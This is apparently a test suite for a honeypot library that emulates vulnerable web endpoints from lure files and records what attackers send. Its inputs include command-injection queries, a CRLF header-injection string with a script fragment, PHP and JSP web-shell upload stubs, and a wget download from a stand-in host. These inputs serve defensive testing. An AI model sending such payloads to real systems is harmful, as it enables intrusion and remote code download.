"""From a lure file's step to an answer."""

import base64
import random
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from propolis.flaws.file import Flaw, parse
from propolis.flaws.index import Match
from propolis.flaws.reply import MAX_DELAY_SECONDS, MAX_HEADERS, Answer, answer, extracted, faults
from propolis.flaws.request import Request
from propolis.flaws.session import Session
from scenes import a_scene

FILE = r"""
id: a-flaw
name: A product that issues jobs
product: thing
steps:
  - id: new
    match: {path: /new}
    issue: {job: "'job_' + digits(6)"}
    reply: {body: '{"id": "{{ job }}"}'}
  - id: run
    match: {path: /run, "query.c|re": "(?P<first>.)"}
    after: [new]
    extract: {command: query.c}
    reply:
      status: 202
      headers: ["X-Job: {{ job }}", "Location: {{ query.u }}"]
      bare: true
      body: "{{ first }} {{ shell(command) }}"
      delay: sleep(command)
tests: {match: [{request: "GET /new HTTP/1.1\n\n"}], miss: ["GET / HTTP/1.1\n\n"]}
"""
FLAW = parse(FILE, "a-flaw.yaml")


def told(step: int, raw: bytes, session: Session, flaw: Flaw = FLAW, **groups: bytes) -> Answer:
    match = Match(flaw, flaw.steps[step], 500, groups)
    return answer(match, Request.parse(raw), session, a_scene())


def changed(**reply: Any) -> Flaw:
    text = FILE.replace('reply: {body: \'{"id": "{{ job }}"}\'}', f"reply: {reply}")
    return parse(text, "a-flaw.yaml")


def test_what_is_issued_is_remembered() -> None:
    session = Session()
    first = told(0, b"GET /new HTTP/1.1\r\n\r\n", session)
    assert first.body == told(0, b"GET /new HTTP/1.1\r\n\r\n", session).body
    job = session.known("a-flaw")["job"]
    assert first.body == b'{"id": "%s"}' % job
    assert session.taken("a-flaw") == {"new"}
    later = told(1, b"GET /run?c=id&u=/x HTTP/1.1\r\n\r\n", session, first=b"i")
    assert later.status == 202
    assert later.headers == ((b"X-Job", job), (b"Location", b"/x"))
    assert later.is_bare
    assert later.body == b"i uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"
    assert later.extracted == {"command": ("id",)}


def test_an_expression_says_how_long_it_takes() -> None:
    assert told(1, b"GET /run?c=sleep+7 HTTP/1.1\r\n\r\n", Session()).delay_seconds == 7
    assert told(1, b"GET /run?c=sleep+999 HTTP/1.1\r\n\r\n", Session()).delay_seconds == MAX_DELAY_SECONDS


@pytest.mark.parametrize(
    ("delay", "low", "high"), [(0.5, 0.5, 0.5), ([0.1, 0.2, 0.4], 0.1, 0.4), ([3.0], 3.0, 3.0), ([], 0, 0)]
)
def test_a_distribution_is_drawn_from(delay: Any, low: float, high: float) -> None:
    flaw = changed(delay=delay)
    match = Match(flaw, flaw.steps[0], 500, {})
    scene, request = a_scene(chance=random.Random(3)), Request.parse(b"GET / HTTP/1.1\r\n\r\n")
    seconds = [answer(match, request, Session(), scene).delay_seconds for _ in range(50)]
    assert low <= min(seconds) <= max(seconds) <= high


def test_a_line_break_makes_a_header_but_never_a_message() -> None:
    split = b"%0d%0aSet-Cookie:%20a=b%0d%0aContent-Length:%200%0d%0a%0d%0a<script>"
    made = told(
        1,
        b"GET /run?c=x&u=/a" + split + b" HTTP/1.1\r\n\r\n",
        Session(),
    )
    assert made.headers[1:] == ((b"Location", b"/a"), (b"Set-Cookie", b"a=b"))
    many = b"GET /run?c=x&u=" + b"%0aA:b" * 999 + b" HTTP/1.1\r\n\r\n"
    assert len(told(1, many, Session()).headers) == MAX_HEADERS


def test_a_binary_body_is_sent_as_it_is() -> None:
    flaw = changed(body_base64=base64.b64encode(b"\0\xff{{x}}").decode())
    assert told(0, b"GET /new HTTP/1.1\r\n\r\n", Session(), flaw).body == b"\0\xff{{x}}"


def test_uploads_are_kept_by_their_names() -> None:
    session = Session()
    form = (
        b"POST / HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=b\r\n\r\n"
        b'--b\r\nContent-Disposition: form-data; name="f"; filename="s.php"\r\n\r\n<?php\r\n--b--\r\n'
    )
    told(0, form, session)
    told(0, b"PUT /t.jsp HTTP/1.1\r\nContent-Length: 2\r\n\r\n<%", session)
    assert dict(session.uploads) == {b"s.php": b"<?php", b"/t.jsp": b"<%"}


def test_what_is_only_recognised_gives_itself_away_too() -> None:
    request = Request.parse(b"GET /run?c=wget+http://203.0.113.7/a HTTP/1.1\r\n\r\n")
    assert extracted(FLAW.steps[1], request)["url"] == ("http://203.0.113.7/a",)


def test_faults_are_told_where_they_are() -> None:
    broken = (
        FILE.replace("digits(6)", "digits(6").replace("query.u", "nosuch").replace("query.c}", "nofield}")
    )
    broken = broken.replace("sleep(command)", "nosuch(command)").replace("bare: true", 'reason: "{{"')
    keys = {key for key, _ in faults(parse(broken, "a-flaw.yaml"))}
    assert keys == {
        "steps[0].issue.job",
        "steps[1].extract.command",
        "steps[1].reply.headers[1]",
        "steps[1].reply.reason",
        "steps[1].reply.delay",
    }
    assert not list(faults(FLAW))


def test_base64_that_is_none_is_a_fault() -> None:
    assert [key for key, _ in faults(changed(body_base64="*"))] == ["steps[0].reply.body_base64"]


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=200))
def test_no_request_makes_it_raise(raw: bytes) -> None:
    for step in (0, 1):
        made = told(step, raw, Session(), first=raw)
        assert all(b"\r" not in value and b"\n" not in value for _, value in made.headers)
